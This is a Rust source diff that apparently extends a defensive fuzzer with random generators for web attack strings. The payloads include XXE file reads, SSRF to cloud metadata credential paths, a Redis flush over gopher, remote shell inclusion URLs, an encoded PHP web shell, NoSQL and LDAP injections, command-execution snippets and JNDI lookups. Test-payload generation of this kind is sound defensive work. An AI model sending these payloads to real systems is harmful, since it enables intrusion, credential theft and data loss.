@@ -2,6 +2,24 @@
 
 use fastrand::Rng;
 
+/// A grammar: makes a new attack string with every call.
+pub type Grammar = fn(&mut Rng) -> String;
+
+/// Every grammar of attacks, by the class of what it makes.
+pub const GRAMMARS: [(&str, Grammar); 11] = [
+    ("sqli", sql),
+    ("xss", script),
+    ("traversal", traversal),
+    ("ssti", template),
+    ("command", command),
+    ("xxe", entity),
+    ("ssrf", internal_address),
+    ("rfi", remote_file),
+    ("nosqli", nosql),
+    ("ldap", directory_filter),
+    ("php", code),
+];
+
 fn one<'a>(rng: &mut Rng, from: &[&'a str]) -> &'a str {
     from.get(rng.usize(..from.len().max(1))).copied().unwrap_or("")
 }
@@ -137,6 +155,120 @@ pub fn command(rng: &mut Rng) -> String {
     }
 }
 
+/// XML external entities: a document type that reads a file or an address.
+pub fn entity(rng: &mut Rng) -> String {
+    let name = word(rng);
+    let target = match rng.u8(..4) {
+        0 => format!("file:///{}", one(rng, &["etc/passwd", "etc/hostname", "c:/windows/win.ini"])),
+        1 => format!("http://{}.example/{}.dtd", word(rng), word(rng)),
+        2 => "php://filter/read=convert.base64-encode/resource=index.php".to_owned(),
+        _ => format!("{}://{}.example/", one(rng, &["gopher", "ftp", "jar", "expect"]), word(rng)),
+    };
+    let head = one(rng, &["<?xml version=\"1.0\"?>", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", ""]);
+    let keyword = one(rng, &["SYSTEM", "PUBLIC \"x\""]);
+    let root = word(rng);
+    if rng.bool() {
+        format!("{head}<!DOCTYPE {root} [<!ENTITY {name} {keyword} \"{target}\">]><{root}>&{name};</{root}>")
+    } else {
+        format!("{head}<!DOCTYPE {root} [<!ENTITY % {name} {keyword} \"{target}\"> %{name};]>")
+    }
+}
+
+/// Server-side request forgery: an address that only the server can reach, in one of many spellings.
+pub fn internal_address(rng: &mut Rng) -> String {
+    let host = match rng.u8(..8) {
+        0 => "169.254.169.254".to_owned(),
+        1 => "127.0.0.1".to_owned(),
+        2 => "localhost".to_owned(),
+        3 => "[::1]".to_owned(),
+        4 => "0x7f000001".to_owned(),
+        5 => "2130706433".to_owned(),
+        6 => format!("10.{}.{}.{}", rng.u8(..), rng.u8(..), rng.u8(1..)),
+        _ => one(rng, &["metadata.google.internal", "127.1", "0", "017700000001", "127.0.0.1.nip.io"])
+            .to_owned(),
+    };
+    let path = one(
+        rng,
+        &[
+            "/latest/meta-data/iam/security-credentials/",
+            "/computeMetadata/v1/",
+            "/admin",
+            "/server-status",
+            "/",
+            "",
+        ],
+    );
+    let port = one(rng, &["", "", ":22", ":6379", ":8080", ":9200", ":3306"]);
+    let scheme = one(rng, &["http", "http", "https", "gopher", "dict", "ftp", "file", "ldap", "tftp"]);
+    match rng.u8(..5) {
+        0 => format!("{scheme}://{}@{host}{port}{path}", word(rng)),
+        1 if scheme == "gopher" => format!("{scheme}://{host}:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a"),
+        _ => format!("{scheme}://{host}{port}{path}"),
+    }
+}
+
+/// Remote file inclusion: a script elsewhere, or a stream wrapper.
+pub fn remote_file(rng: &mut Rng) -> String {
+    let address = format!("{}.{}.{}.{}", rng.u8(1..224), rng.u8(..), rng.u8(..), rng.u8(1..));
+    match rng.u8(..5) {
+        0 => format!("http://{address}/{}.txt?", one(rng, &["shell", "c99", "r57", "cmd"])),
+        1 => format!("{}://{}.example/{}.php?", one(rng, &["http", "https", "ftp"]), word(rng), word(rng)),
+        2 => format!("php://filter/convert.base64-encode/resource={}.php", word(rng)),
+        3 => format!("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+{}", rng.u8(..)),
+        _ => one(
+            rng,
+            &["php://input", "expect://id", "zip://x.zip#y.php", "phar://x.phar", "file:///etc/passwd"],
+        )
+        .to_owned(),
+    }
+}
+
+/// NoSQL injection: operators where a value belongs, or JavaScript in a `$where`.
+pub fn nosql(rng: &mut Rng) -> String {
+    let name = word(rng);
+    match rng.u8(..6) {
+        0 => format!("{{\"${}\":\"\"}}", one(rng, &["ne", "gt", "gte", "lt", "nin", "exists"])),
+        1 => format!("{{\"{name}\":{{\"$regex\":\"^{}.*\"}}}}", word(rng)),
+        2 => format!("{{\"$where\":\"this.{name} == '{}' || 1==1\"}}", word(rng)),
+        3 => format!("'; return '' == '{}", one(rng, &["", "a"])),
+        4 => format!("' || this.{name}.match(/.*/) || '{}'=='", one(rng, &["a", "1"])),
+        _ => format!("{{${}: [{{}}, {{'{name}':'{}'}}]}}", one(rng, &["or", "and", "nor"]), word(rng)),
+    }
+}
+
+/// LDAP injection: a way out of the filter.
+pub fn directory_filter(rng: &mut Rng) -> String {
+    let attribute = one(rng, &["uid", "cn", "mail", "objectClass", "userPassword", "sn"]);
+    match rng.u8(..5) {
+        0 => format!("*)({attribute}=*"),
+        1 => format!("*)({attribute}=*))(|({attribute}=*"),
+        2 => format!("{})(&", word(rng)),
+        3 => format!("{})(|({attribute}={}*)", word(rng), word(rng)),
+        _ => format!("*{}))%00", word(rng)),
+    }
+}
+
+/// Code injection: PHP, Java, JavaScript or Perl that runs something.
+pub fn code(rng: &mut Rng) -> String {
+    let run = one(rng, &["system", "exec", "passthru", "shell_exec", "eval", "assert", "popen"]);
+    let what = one(rng, &["'id'", "\"whoami\"", "$_GET[0]", "$_POST['c']", "base64_decode($x)"]);
+    match rng.u8(..8) {
+        0 => format!("<?php {run}({what}); ?>"),
+        1 => format!("{};{run}({what});//", word(rng)),
+        2 => format!("${{@{run}({what})}}"),
+        3 => format!("java.lang.Runtime.getRuntime().exec({what})"),
+        4 => format!("new java.lang.ProcessBuilder({{'{}'}}).start()", word(rng)),
+        5 => format!("require('child_process').execSync({what})"),
+        6 => format!("O:{}:\"{}\":1:{{s:{}:\"{}\";i:0;}}", rng.u8(1..30), word(rng), rng.u8(1..9), word(rng)),
+        _ => format!(
+            "${{jndi:{}://{}.example/{}}}",
+            one(rng, &["ldap", "rmi", "dns", "ldaps"]),
+            word(rng),
+            word(rng)
+        ),
+    }
+}
+
 /// A value that no rule knows and no honest client sends: wrong type, wrong size, wrong alphabet.
 pub fn odd(rng: &mut Rng) -> Vec<u8> {
     match rng.u8(..9) {
@@ -164,16 +296,10 @@ mod tests {
 
     #[test]
     fn each_grammar_makes_many_different_strings() {
-        for (name, make) in [
-            ("sql", sql as fn(&mut Rng) -> String),
-            ("script", script),
-            ("traversal", traversal),
-            ("template", template),
-            ("command", command),
-        ] {
+        for (name, make) in GRAMMARS {
             let mut rng = Rng::with_seed(5);
             let made: BTreeSet<String> = (0..500).map(|_| make(&mut rng)).collect();
-            assert!(made.len() >= 100, "{name}: {} different of 500", made.len());
+            assert!(made.len() >= 60, "{name}: {} different of 500", made.len());
             assert!(made.iter().all(|payload| payload.len() >= 4), "{name}");
         }
     }
